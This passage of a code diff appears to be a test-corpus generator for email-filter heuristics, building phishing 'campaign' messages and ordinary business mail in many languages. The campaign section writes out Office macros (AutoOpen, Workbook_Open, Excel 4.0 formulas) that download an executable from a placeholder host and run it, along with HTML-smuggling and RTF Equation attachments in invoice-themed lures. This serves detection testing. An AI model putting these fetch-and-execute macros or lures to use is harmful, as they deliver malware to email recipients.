+            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, doc)]))]
+            trick += ", in a zip"
+        c.add("campaign", "negasteal-rtf-equation", trick + " (%s)" % lang,
+              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=atts))
+
+    idioms = ["atob-blob", "mssave", "uint8-from", "fetch-data", "reversed", "atob-blob"]
+    for i, idiom in enumerate(idioms):
+        lang = ["en", "de", "fr", "es", "pl", "nl"][i]
+        kind = ["payment", "invoice", "payment", "shipping", "invoice", "po"][i]
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(6)
+        page = smuggling_html(rng, idiom)
+        name = "%s_%s.%s" % (rng.choice(FILE_WORD[kind]), n, "htm" if i % 2 else "html")
+        atts = [(name, page, "text/html")]
+        trick = "HTML smuggling, idiom %s" % idiom
+        if i >= 4:
+            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, page)]))]
+            trick += ", page inside a zip"
+        c.add("campaign", "negasteal-html-smuggling", trick + " (%s)" % lang,
+              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=atts))
+
+
+def office_campaign(c):
+    """Macro documents: auto-open + fetch + execute, XLM macro sheets, add-ins."""
+    if mkoffice is None:
+        sys.stderr.write("gen-corpus: tests/samples/mkoffice.py not found; "
+                         "the Office macro cases are left out\n")
+        return
+    rng = c.rng
+    url = "http://cdn.example.invalid/%s.exe"
+    vba = [
+        ("AutoOpen", "Sub AutoOpen()\n  ' %s\n  Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\n"
+         "  x.Open \"GET\", \"%s\", False: x.Send\n  Dim s: Set s = CreateObject(\"ADODB.Stream\")\n"
+         "  s.Open: s.Type = 1: s.Write x.responseBody\n  s.SaveToFile Environ(\"TEMP\") & \"\\p.exe\", 2\n"
+         "  CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\p.exe\"\nEnd Sub\n"),
+        ("Workbook_Open", "Private Sub Workbook_Open()\n  ' %s\n  Shell \"powershell -w hidden -c "
+         "IEX (New-Object Net.WebClient).DownloadString('%s')\", vbHide\nEnd Sub\n"),
+        ("Document_Open", "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" "
+         "(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, "
+         "ByVal e As LongPtr) As Long\nSub Document_Open()\n  ' %s\n  URLDownloadToFileA 0, \"%s\", "
+         "Environ(\"TEMP\") & \"\\u.exe\", 0, 0\n  Shell Environ(\"TEMP\") & \"\\u.exe\"\nEnd Sub\n"),
+        ("Auto_Open", "Sub Auto_Open()\n  ' %s\n  Dim c: c = \"cmd /c certutil -urlcache -f %s %%TEMP%%\\c.exe "
+         "&& %%TEMP%%\\c.exe\"\n  CreateObject(\"WScript.Shell\").Run c, 0\nEnd Sub\n"),
+    ]
+    kinds = [("docm", 0, "invoice", "en"), ("xlsm", 1, "po", "de"), ("docm", 2, "payment", "fr"),
+             ("xlam", 3, "quote", "es"), ("ppam", 3, "po", "it"), ("pptm", 0, "shipping", "pt"),
+             ("doc", 2, "invoice", "ru"), ("xls-vba", 1, "payment", "tr")]
+    for kind, v, lure, lang in kinds:
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(6)
+        entry, src = vba[v]
+        src = src % (MARK, url % n)
+        mods = {"Module1" if kind not in ("docm", "doc") else "ThisDocument": src}
+        if kind == "doc":
+            data, ext = mkoffice.ole_doc_with_vba(mods), "doc"
+        elif kind == "xls-vba":
+            data, ext = mkoffice.ole_doc_with_vba(mods), "xls"
+        else:
+            data, ext = mkoffice.ooxml_with_vba(kind, mods), kind
+        name = "%s_%s.%s" % (rng.choice(FILE_WORD[lure]), n, ext)
+        c.add("campaign", "negasteal-office-macro", "%s %s + fetch + execute (%s)" % (ext, entry, lang),
+              c.mail(subjects[LURE_KIND[lure]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=[(name, data)]))
+    xlm = [
+        ["=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"%s\",\"c:\\users\\public\\a.dll\",0,0)",
+         "=EXEC(\"rundll32 c:\\users\\public\\a.dll,DllRegisterServer\")", "=HALT()"],
+        ["=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Dl\",,1,9)",
+         "=Dl(0,\"%s\",\"c:\\programdata\\b.exe\",0,0)", "=EXEC(\"c:\\programdata\\b.exe\")", "=HALT()"],
+        ["=FORMULA.FILL(\"=EXEC(\"\"powershell -c iwr %s -o b.exe\"\")\",R2C1)", "=RUN(R2C1)",
+         "=HALT()"],
+    ]
+    for i, (subj, lang, packing) in enumerate([
+            ("Notifica ufficiale - Ispettorato del Lavoro", "it", "zip"),
+            ("Avviso di violazione n. {n}", "it", "xls"),
+            ("Fattura {n} - sollecito", "it", "zip"),
+            ("Offizielle Mitteilung {n}", "de", "xls")]):
+        n = c.digits(6)
+        f = [x.replace("%s", url % n) for x in xlm[i % 3]]
+        data = mkoffice.xls_with_xlm(f)
+        xname = "Notifica_%s.xls" % n if lang == "it" else "Mitteilung_%s.xls" % n
+        atts = [(xname, data)] if packing == "xls" else [
+            ("Official notification %s.zip" % n, F.zip_archive([(xname, data)]))]
+        c.add("campaign", "avaddon-xlm", "Excel 4.0 macro sheet (%s) in %s (%s)"
+              % (f[0].split("(")[0], packing, lang),
+              c.mail(subj.format(n=n), "Gentile contribuente,\n\nin allegato la notifica. Si prega di "
+                     "prendere visione entro 48 ore per evitare sanzioni.\n" if lang == "it" else
+                     "Sehr geehrte Damen und Herren,\n\nanbei die Mitteilung.\n",
+                     rng.choice(BOT) % rng.randrange(100, 999), RCPT, atts=atts))
+    n = c.digits(5)
+    rtf = mkoffice.rtf_with_object("Equation.3", bytes.fromhex(equation_hex()), True)
+    c.add("campaign", "negasteal-rtf-equation", "mkoffice obfuscated RTF Equation object (en)",
+          c.mail("Quotation request %s" % n, LURES["en"][1].format(n=n), rng.choice(SENDERS), RCPT,
+                 atts=[("Quotation_%s.doc" % n, rtf)]))
+
+
+# ---------------------------------------------------------------- ordinary mail
+
+
+PLAIN = [
+    ("en", "Meeting notes from Tuesday", "Hi all,\n\nthanks for joining on Tuesday. Action items:\n"
+     "- Anna updates the rollout plan\n- Marco checks the budget figures\n\nSee you next week,\nTom\n"),
+    ("en", "Re: Q3 budget review", "Sounds good to me. I moved the review to Thursday 10:00.\n\nTom\n"),
+    ("de", "Termin nächste Woche", "Hallo Frau Keller,\n\nwir würden uns gern am Mittwoch um 14 Uhr "
+     "treffen. Passt Ihnen das?\n\nViele Grüße\nJörg Weiß\n"),
+    ("de", "Protokoll der Teamsitzung", "Hallo zusammen,\n\nanbei die wichtigsten Punkte: Umzug der "
+     "Server im Juli, Urlaubsplanung bis Freitag.\n\nGruß\nSabine\n"),
+    ("fr", "Réunion de lancement", "Bonjour à tous,\n\nla réunion de lancement du projet aura lieu "
+     "lundi à 9h30 en salle Voltaire.\n\nBien à vous,\nCamille\n"),
+    ("fr", "Congés d'été", "Bonjour,\n\nmerci d'indiquer vos dates de congés avant le 15 juin.\n\nÉlise\n"),
+    ("es", "Reunión del equipo", "Hola a todos,\n\nos recuerdo que mañana tenemos la reunión "
+     "trimestral a las 11:00.\n\nUn saludo,\nMarta\n"),
+    ("es", "Cambio de horario", "Buenos días,\n\na partir del lunes la oficina abre a las 8:00.\n\nJosé\n"),
+    ("it", "Riunione di progetto", "Ciao a tutti,\n\nla riunione di progetto è spostata a giovedì "
+     "alle 15.\n\nGrazie,\nFrancesca\n"),
+    ("pt", "Relatório mensal", "Olá equipe,\n\no relatório mensal já está disponível na pasta "
+     "compartilhada.\n\nAbraços,\nCarla\n"),
+    ("nl", "Vergadering verplaatst", "Hoi allemaal,\n\nde vergadering van vrijdag is verplaatst naar "
+     "maandag 10 uur.\n\nGroet,\nDaan\n"),
+    ("pl", "Spotkanie zespołu", "Cześć,\n\nspotkanie zespołu odbędzie się w środę o 13:00.\n\nKasia\n"),
+    ("ja", "来週の打ち合わせについて", "お疲れさまです。\n\n来週の打ち合わせは水曜日の10時からに変更となりました。"
+     "\n会議室は3階の第2会議室です。\n\n田中\n"),
+    ("ja", "議事録の送付", "各位\n\n先日の会議の議事録をお送りします。ご確認ください。\n\n鈴木\n"),
+    ("zh", "下周会议安排", "大家好，\n\n下周二上午十点在三楼会议室开项目例会，请准时参加。\n\n谢谢！\n张伟\n"),
+    ("zh", "季度总结", "各位同事：\n\n请在本周五之前提交季度工作总结。\n\n王芳\n"),
+    ("ru", "Встреча в четверг", "Коллеги, добрый день!\n\nНапоминаю, что в четверг в 11:00 "
+     "совещание по проекту.\n\nС уважением,\nАлексей\n"),
+    ("ru", "График отпусков", "Добрый день,\n\nпросьба до пятницы согласовать график отпусков.\n\nМарина\n"),
+    ("ar", "اجتماع الفريق", "مرحباً بالجميع،\n\nسيعقد اجتماع الفريق يوم الأحد الساعة العاشرة صباحاً.\n\n"
+     "مع التحية،\nأحمد\n"),
+    ("ar", "تقرير المبيعات", "السلام عليكم،\n\nمرفق تقرير المبيعات الشهري للاطلاع.\n\nفاطمة\n"),
+    ("he", "פגישת צוות", "שלום לכולם,\n\nפגישת הצוות תתקיים ביום שני בשעה 10:00.\n\nתודה,\nדנה\n"),
+    ("he", "עדכון פרויקט", "היי,\n\nמצרף עדכון קצר על התקדמות הפרויקט.\n\nיוסי\n"),
+    ("ko", "주간 회의 안내", "안녕하세요,\n\n이번 주 회의는 목요일 오후 2시에 진행됩니다.\n\n김민수 드림\n"),
+    ("el", "Συνάντηση ομάδας", "Καλημέρα σας,\n\nη συνάντηση της ομάδας θα γίνει την Τρίτη στις 10.\n\n"
+     "Νίκος\n"),
+    ("tr", "Toplantı hatırlatma", "Merhaba,\n\nyarınki toplantı saat 14:00'te başlayacaktır.\n\nAyşe\n"),
+    ("hi", "टीम मीटिंग", "नमस्ते,\n\nकल सुबह दस बजे टीम मीटिंग है।\n\nधन्यवाद,\nराहुल\n"),
+    ("en", "Lunch on Friday?", "Hey, are you free for lunch on Friday? The new place near the station "
+     "is supposed to be good :)\n\nSam\n"),
+    ("en", "Password reset policy", "Hi team,\n\nreminder: the password policy changes next month; "
+     "you will be asked to choose a new password at your next login. IT will never ask for your "
+     "password by mail.\n\nIT Service Desk\n"),
+]
+
+NEWSLETTER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{t}</title>
+<style>body{{font-family:Arial}} .btn{{background:#06c;color:#fff;padding:8px}}</style></head>
+<body><table width="600" align="center"><tr><td>
+<h1>{t}</h1><p>{p}</p>
+<p><a class="btn" href="https://news.example.com/{slug}?utm_source=newsletter">{cta}</a></p>
+<img src="https://news.example.com/img/{slug}.png" alt="" width="600">
+<script type="application/ld+json">{{"@context":"https://schema.example.com","@type":"Organization"}}</script>
+<p style="font-size:11px">You receive this mail because you subscribed at news.example.com.
+<a href="https://news.example.com/unsubscribe">Unsubscribe</a></p>
+</td></tr></table></body></html>"""
+
+WEBDEV_JS = """/* ajax.js - small XMLHttpRequest wrapper used by the intranet pages.
+ * INERT-TEST-FIXTURE
+ * Falls back to the ActiveX object on old Internet Explorer versions.
+ */
+function createRequest() {
+  if (window.XMLHttpRequest) {
+    return new XMLHttpRequest();
+  }
+  try {
+    return new ActiveXObject("MSXML2.XMLHTTP");
+  } catch (e) {
+    return new ActiveXObject("Microsoft.XMLHTTP");
+  }
+}
+
+function getJSON(url, done) {
+  var req = createRequest();
+  req.open("GET", url, true);
+  req.onreadystatechange = function () {
+    if (req.readyState === 4 && req.status === 200) {
+      done(JSON.parse(req.responseText));
+    }
+  };
+  req.send(null);
+}
+
+function download(rows) {
+  var csv = rows.map(function (r) { return r.join(";"); }).join("\\n");
+  var blob = new Blob([csv], {type: "text/csv"});
+  var a = document.createElement("a");
+  a.href = URL.createObjectURL(blob);
+  a.download = "report.csv";
+  a.click();
+}
+"""
+
+
+def ics(summary, uid, when, lang_desc):
+    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Calendar 1.0//EN\r\nMETHOD:REQUEST\r\n"
+            "BEGIN:VEVENT\r\nUID:%s@example.com\r\nDTSTAMP:20200601T080000Z\r\nDTSTART:%s\r\n"
+            "DTEND:%s\r\nSUMMARY:%s\r\nDESCRIPTION:%s %s\r\nLOCATION:Room 2.14\r\n"
+            "ORGANIZER;CN=Anna Keller:mailto:anna.keller@example.com\r\n"
+            "ATTENDEE;RSVP=TRUE:mailto:team@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+            % (uid, when, when[:-5] + "3000Z", summary, lang_desc, MARK))
+
+
+def clean(c):
+    rng = c.rng
+    team = "Team <team@example.com>"
+    for lang, subj, text in PLAIN:
+        c.add("clean", "plain-business", "plain text business mail (%s)" % lang,
+              c.mail(subj, text, rng.choice(SENDERS), team))
+    # HTML business mail (alternative)
+    for lang, subj, text in PLAIN[:12:2]:
+        html = "<html><body><div dir=\"auto\">%s</div></body></html>" % text.replace("\n", "<br>\n")
+        c.add("clean", "html-business", "multipart/alternative business mail (%s)" % lang,
+              c.mail(subj, text, rng.choice(SENDERS), team, html=html))
+    for lang, subj, text in [p for p in PLAIN if p[0] in ("ar", "he")]:
+        html = "<html dir=\"rtl\"><body><div dir=\"rtl\">%s</div></body></html>" % text.replace("\n", "<br>")
+        c.add("clean", "html-business", "right-to-left HTML mail (%s)" % lang,
+              c.mail(subj, text, rng.choice(SENDERS), team, html=html))
+    # newsletters
+    for i, (t, p, cta) in enumerate([
+            ("Spring product update", "Three new features for your dashboard.", "Read more"),
+            ("Webinar: cloud security basics", "Join us on 12 June for a one-hour session.", "Register"),
+            ("Unsere Angebote im Juni", "Neue Kollektion jetzt online.", "Jetzt ansehen"),
+            ("Les nouveautés du mois", "Découvrez nos nouveaux services.", "Découvrir"),
+            ("Boletín de noticias", "Las novedades del trimestre.", "Leer más"),
+            ("今月のお知らせ", "新サービスのご案内です。", "詳しくはこちら"),
+            ("Новости компании", "Итоги квартала и планы.", "Подробнее"),
+            ("Invoice reminder settings have changed", "Your billing portal now sends invoices as PDF.",
+             "Open billing portal")]):
+        slug = "issue-%d" % (i + 1)
+        html = NEWSLETTER.format(t=t, p=p, cta=cta, slug=slug)
+        c.add("clean", "newsletter", "HTML newsletter with links and an image (%d)" % (i + 1),
+              c.mail(t, "%s\n\n%s\nhttps://news.example.com/%s\n" % (t, p, slug),
+                     "News <news@news.example.com>", "reader@example.com", html=html))
+    # invoices, orders, payment advice with real documents
+    for i, lang in enumerate(["en", "de", "fr", "es", "it", "pt", "ja", "zh", "ru", "nl", "tr", "pl"]):
+        subjects, body, _, sig = LURES[lang]
+        kind = ["invoice", "po", "payment", "shipping", "quote"][i % 5]
+        n = c.digits(6)
+        subj = subjects[LURE_KIND[kind]].format(n=n)
+        word = FILE_WORD[kind][i % 5]
+        if i % 3 == 0:
+            att = ("%s_%s.pdf" % (word, n), F.pdf(["%s %s" % (word, n), "Total: %d.%02d EUR"
+                                                   % (rng.randrange(100, 9999), rng.randrange(100))]))
+            trick = "real PDF"
+        elif i % 3 == 1:
+            att = ("%s_%s.xlsx" % (word, n), F.xlsx([["Item", "Qty", "Price"],
+                                                      ["Widget A", rng.randrange(1, 50), 12.5],
+                                                      ["Widget B", rng.randrange(1, 50), 7.25]]))
+            trick = "xlsx without macros"
+        else:
+            att = ("%s_%s.docx" % (word, n), F.docx([subj, "Reference %s" % n]))
+            trick = "docx without macros"
+        c.add("clean", "business-document", "%s mail (%s) with a %s" % (kind, lang, trick),
+              c.mail(subj, body.format(n=n).replace("Kindly confirm", "Please confirm") + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=[att]))
+    # the same business words, zip of PDFs
+    for i in range(3):
+        n = c.digits(6)
+        z = F.zip_archive([("Invoice_%s_%d.pdf" % (n, k), F.pdf(["Invoice %s-%d" % (n, k)]))
+                           for k in range(1, 3 + i)])
+        c.add("clean", "business-document", "zip of %d invoice PDFs" % (2 + i),
+              c.mail("Invoices for May - account %s" % n, "Hello,\n\nattached are the May invoices.\n\n"
+                     "Accounts Receivable\n", "Billing <billing@supplier.example.com>", RCPT,
+                     atts=[("Invoices_%s.zip" % n, z)]))
+    # photos
+    for i, (subj, body) in enumerate([("Look at this photo!", ";)"), ("Photos from the team event", "Hi all,\n\nhere are the photos from Friday.\n\nMia\n"),
+                                      ("Is this you?", "Found this in the archive :)"), ("Urlaubsfotos", "Hallo,\n\nhier ein paar Fotos vom Urlaub.\n\nLena\n"),
+                                      ("旅行の写真", "先日の旅行の写真です。\n"), ("Фото с конференции", "Коллеги, фото во вложении.\n")]):
+        if i % 2 == 0:
+            atts = [("IMG_%s.JPG" % c.digits(4), F.jpeg("photo %d" % i), "image/jpeg")]
+            trick = "one camera JPEG"
+        else:
+            z = F.zip_archive([("IMG_%s.JPG" % c.digits(4), F.jpeg("p%d-%d" % (i, k)))
+                               for k in range(4)] + [("DSC_%s.png" % c.digits(4), F.png(32, 24, i))],
+                              deflate=False)
+            atts = [("photos_%d.zip" % (i + 1), z)]
+            trick = "zip of JPEG and PNG photos"
+        c.add("clean", "photos", trick, c.mail(subj, body, rng.choice(SENDERS), "friend@example.com",
+                                               atts=atts))
+    # calendar invitations
+    for i, (summary, desc) in enumerate([("Quarterly review", "Agenda: results and plans."),
+                                         ("Projektbesprechung", "Tagesordnung folgt."),
+                                         ("Réunion budget", "Ordre du jour joint."),
+                                         ("定例会議", "議題は別途送付します。"),
+                                         ("Planning session", "Please bring the invoice backlog numbers.")]):
+        when = "202006%02dT09%02d00Z" % (10 + i, 0)
+        cal = ics(summary, "evt%d-%s" % (i, c.digits(6)), when, desc)
+        m = c.mail(summary, "You are invited: %s\n%s\n" % (summary, desc), "Anna Keller <anna.keller@example.com>",
+                   team, atts=[("invite.ics", cal.encode(), "text/calendar")])
+        c.add("clean", "calendar", "calendar invitation (.ics)", m)
+    # RTF documents
+    for i, (title, lines, pad) in enumerate([
+            ("Contract draft", ["Service agreement", "Between Example Ltd and Sample GmbH"], 0),
+            ("Vertrag Entwurf", ["Rahmenvertrag", "zwischen Beispiel AG und Muster GmbH"], 80),
+            ("Lettre de motivation", ["Madame, Monsieur,", "Je me permets de vous adresser ma candidature."], 0),
+            ("見積書", ["御見積書", "合計金額 120,000円"], 10),
+            ("Minutes", ["Minutes of the board meeting", "Present: A, B, C"], 40)]):
+        doc = F.rtf_text(lines, pad=pad)
+        c.add("clean", "rtf-document", "RTF document without objects%s" % (" (over 4 KB)" if pad > 30 else ""),
+              c.mail(title, "Hello,\n\nplease find the document attached.\n\nRegards\n",
+                     rng.choice(SENDERS), team, atts=[("%s.rtf" % title.replace(" ", "_"), doc)]))
+    # ISO images of documents
+    for i, (vol, files) in enumerate([
+            ("MANUALS", [("README.TXT", b"Product manuals, June 2020\n" + MARK.encode()),
+                         ("MANUAL.PDF", F.pdf(["Operating manual", "Model X200"]))]),
+            ("PHOTOS", [("IMG_0001.JPG", F.jpeg("iso1")), ("IMG_0002.JPG", F.jpeg("iso2"))]),
+            ("PROJECT", [("PLAN.PDF", F.pdf(["Project plan"])), ("BUDGET.XLSX", F.xlsx([["Q1", 10]])),
+                         ("NOTES.TXT", b"notes " + MARK.encode())])]):
+        c.add("clean", "iso-documents", "ISO 9660 image of %s" % vol.lower(),
+              c.mail("%s disc image" % vol.title(), "Hi,\n\nthe disc image you asked for is attached.\n\nPaul\n",
+                     rng.choice(SENDERS), team, atts=[("%s.iso" % vol.lower(), F.iso9660(files, vol))]))
+    # web developer's scripts
+    js = WEBDEV_JS.encode()
+    c.add("clean", "webdev-script", "zip of web sources, ajax.js with the ActiveXObject fallback",
+          c.mail("Intranet page sources", "Hi,\n\nhere are the sources for the new intranet page.\n\nLeo\n",
+                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
+                 atts=[("intranet-src.zip", F.zip_archive([
+                     ("src/index.html", b"<html><body><script src=\"ajax.js\"></script></body></html>"),
+                     ("src/ajax.js", js), ("src/app.js", b"// app " + MARK.encode() + b"\ngetJSON('/api', render);\n"),
+                     ("src/style.css", b"body{margin:0}"), ("README.md", b"# Intranet\n")]))]))
+    c.add("clean", "webdev-script", "tar.gz of web sources with the ActiveXObject fallback",
+          c.mail("Re: old IE support", "The fallback is in ajax.js, see the tarball.\n",
+                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
+                 atts=[("ajax-lib.tar.gz", F.tar_gz([("ajax-lib/ajax.js", js),
+                                                    ("ajax-lib/README", b"ajax helper " + MARK.encode())]))]))
+    page = ("<!DOCTYPE html><html><head><title>Report</title></head><body><!-- %s -->\n<script>\n%s\n"
+            "</script></body></html>\n" % (MARK, WEBDEV_JS)).encode()
+    c.add("clean", "webdev-script", "HTML page with an inline XMLHTTP fallback and a CSV download",
+          c.mail("Report page prototype", "Prototype of the report page attached.\n",
+                 "Leo Wagner <leo.wagner@example.com>", "web@example.com",
+                 atts=[("report.html", page, "text/html")]))
+    c.add("clean", "webdev-script", "zip of a single-page app (several .js files)",
+          c.mail("SPA build", "Build output attached.\n", "CI <ci@example.com>", "web@example.com",
+                 atts=[("spa-build.zip", F.zip_archive([
+                     ("dist/main.js", js), ("dist/vendor.js", b"/* vendor " + MARK.encode() + b" */"),
+                     ("dist/polyfills.js", b"/* polyfills */ if (!window.Promise) {}"),
+                     ("dist/index.html", b"<html></html>")]))]))
+    # right-to-left names with legitimate embedding marks
+    for i, (lang, name, subj) in enumerate([
+            ("he", "\u200fדוח רבעוני.pdf", "דוח רבעוני"),
+            ("ar", "\u202bتقرير المبيعات\u202c.pdf", "تقرير المبيعات"),
+            ("he", "\u202bחשבונית 2020\u202c.pdf", "חשבונית"),
+            ("ar", "\u200fعرض سعر.docx", "عرض سعر"),
+            ("he", "\u2067מצגת\u2069.pdf", "מצגת")]):
+        data = F.docx([subj]) if name.endswith(".docx") else F.pdf(["Report %d" % i])
+        c.add("clean", "rtl-name", "%s file name with %s" % (lang, "U+%04X" % ord(name[0])),
+              c.mail(subj, [p for p in PLAIN if p[0] == lang][0][2], rng.choice(SENDERS), team,
+                     atts=[(name, data)]))
+    # logs, csv, other archives
+    c.add("clean", "archive-documents", "tar.gz of logs",
+          c.mail("Logs from the web servers", "Logs attached, see the 500s around 09:12.\n",
+                 "Ops <ops@example.com>", team, atts=[("logs.tar.gz", F.tar_gz(
+                     [("web1/access.log", b"10.0.0.1 - - GET / 200\n" * 50 + MARK.encode()),
+                      ("web2/access.log", b"10.0.0.2 - - GET /api 500\n" * 20)]))]))
+    c.add("clean", "archive-documents", "gzip of a CSV with its name in FNAME",
+          c.mail("Export", "The nightly export.\n", "Reports <reports@example.com>", team,
+                 atts=[("export.csv.gz", F.gzip_file("export.csv", b"id;name\n1;A\n2;B\n" + MARK.encode()))]))
+    c.add("clean", "archive-documents", "7z of documents",
+          c.mail("Documents", "Attached the documents as 7z.\n", rng.choice(SENDERS), team,
+                 atts=[("documents.7z", F.sevenzip([("report.pdf", F.pdf(["Report"])),
+                                                    ("notes.txt", b"notes " + MARK.encode())]))]))
+    c.add("clean", "archive-documents", "LZH of documents (Japanese office)",
+          c.mail("資料送付", "資料をLZHで送ります。\n", "佐藤 健 <k.sato@jp.example.com>", team,
+                 atts=[("shiryo.lzh", F.lzh([("shiryo.pdf", F.pdf(["Shiryo"])), ("memo.txt", b"memo " + MARK.encode())]))]))
+    c.add("clean", "archive-documents", "rar of spreadsheets",
+          c.mail("Sheets", "The sheets, as rar.\n", rng.choice(SENDERS), team,
+                 atts=[("sheets.rar", F.rar4([("a.csv", b"x;y\n1;2\n" + MARK.encode()), ("b.csv", b"x;y\n3;4\n")]))]))
+    c.add("clean", "archive-documents", "CSV attachment",
+          c.mail("Price list", "Current price list attached.\n", "Sales Team <sales@vendor.example.com>", RCPT,
+                 atts=[("prices.csv", ("sku;price\nA-1;10.00\nB-2;12.50\n# " + MARK + "\n").encode(), "text/csv")]))
+    # password-protected zip, password sent by phone / in a separate mail
+    n = c.digits(6)
+    pw = "Kx" + c.digits(6)
+    c.add("clean", "encrypted-separate", "encrypted zip, password in a separate mail (PPAP)",
+          c.mail("【資料送付】お見積書 %s" % n, "お世話になっております。\n資料を送付いたします。パスワードは別途お送りします。\n",
+                 "佐藤 健 <k.sato@jp.example.com>", RCPT,
+                 atts=[("mitsumori_%s.zip" % n, F.zip_archive([("mitsumori.pdf", F.pdf(["Quote"]))],
+                                                              password=pw, rng=rng))]))
+    c.add("clean", "encrypted-separate", "the separate password mail, no attachment",
+          c.mail("【パスワード】お見積書 %s" % n, "先ほどお送りしたファイルのパスワードです。\nパスワード：%s\n" % pw,
+                 "佐藤 健 <k.sato@jp.example.com>", RCPT))
+    # forwarded messages and replies
+    for i in range(3):
+        inner = c.mail("Original: delivery schedule %d" % i, "Delivery on Monday as agreed.\n",
+                       rng.choice(SENDERS), RCPT, atts=[("schedule.pdf", F.pdf(["Schedule %d" % i]))])
+        c.add("clean", "forward", "forwarded message/rfc822 with a PDF",
+              c.mail("Fwd: delivery schedule %d" % i, "FYI, see below.\n", "Anna Keller <anna.keller@example.com>",
+                     team, atts=[inner]))
+    for i, (lang, subj, text) in enumerate(PLAIN[:6]):
+        quoted = "\n".join("> " + line for line in text.splitlines())
+        c.add("clean", "reply", "reply with quoted text (%s)" % lang,
+              c.mail("Re: " + subj, "Thanks, noted.\n\n" + quoted + "\n", rng.choice(SENDERS), team,
+                     reply="<%d.prev@mail.example.com>" % i))
+    # legitimate macros
+    if mkoffice is not None:
+        fmt = ("Sub FormatReport()\n  ' %s\n  With ActiveSheet.Range(\"A1:F1\")\n    .Font.Bold = True\n"
+               "    .Interior.Color = RGB(220, 230, 241)\n  End With\n  ActiveSheet.Columns(\"A:F\").AutoFit\n"
+               "  ActiveSheet.Range(\"C2:C200\").NumberFormat = \"#,##0.00\"\nEnd Sub\n" % MARK)
+        opn = ("Private Sub Workbook_Open()\n  ' %s\n  Worksheets(\"Summary\").Activate\n"
+               "  Application.StatusBar = \"Updated \" & Format(Now, \"yyyy-mm-dd\")\nEnd Sub\n" % MARK)
+        doc = ("Sub AutoOpen()\n  ' %s\n  ActiveDocument.Styles(\"Normal\").Font.Name = \"Calibri\"\n"
+               "  ActiveWindow.View.Type = wdPrintView\nEnd Sub\n" % MARK)
+        for kind, mods, subj, trick in [
+                ("xlsm", {"Module1": fmt}, "Monthly report template", "workbook macro that formats cells"),
+                ("xlsm", {"ThisWorkbook": opn, "Module1": fmt}, "Sales summary with macros",
+                 "Workbook_Open that activates a sheet"),
+                ("docm", {"ThisDocument": doc}, "Letter template", "AutoOpen that sets a style"),
+                ("xlam", {"Module1": fmt}, "Formatting add-in", "add-in with a formatting macro")]:
+            c.add("clean", "legit-macro", trick,
+                  c.mail(subj, "Hi,\n\nthe %s is attached; enable macros for the formatting button.\n\nControlling\n"
+                         % kind, "Controlling <controlling@example.com>", team,
+                         atts=[("%s.%s" % (subj.replace(" ", "_"), kind), mkoffice.ooxml_with_vba(kind, mods))]))
+        c.add("clean", "legit-macro", "legacy .xls with a formatting macro",
+              c.mail("Old budget sheet", "The old budget sheet, still with its macro.\n",
+                     "Controlling <controlling@example.com>", team,
+                     atts=[("budget_2019.xls", mkoffice.ole_doc_with_vba({"Module1": fmt}))]))
+
+
+def build(seed):
+    c = Corpus(seed)
+    avaddon(c)
+    negasteal_archives(c)
+    negasteal_documents(c)
+    office_campaign(c)
+    clean(c)
+    return c
+
+
+def main():
+    ap = argparse.ArgumentParser(description="Write the heuristics corpus into OUTDIR.")
+    ap.add_argument("-s", "--seed", type=int, default=20200608)
+    ap.add_argument("outdir")
+    a = ap.parse_args()
+    c = build(a.seed)
+    c.write(a.outdir)
+    ncamp = sum(1 for r in c.manifest if r[1] == "campaign")
+    print("gen-corpus: %d campaign, %d clean messages in %s (seed %d)"
+          % (ncamp, len(c.manifest) - ncamp, a.outdir, a.seed))
+
+
+if __name__ == "__main__":
+    main()
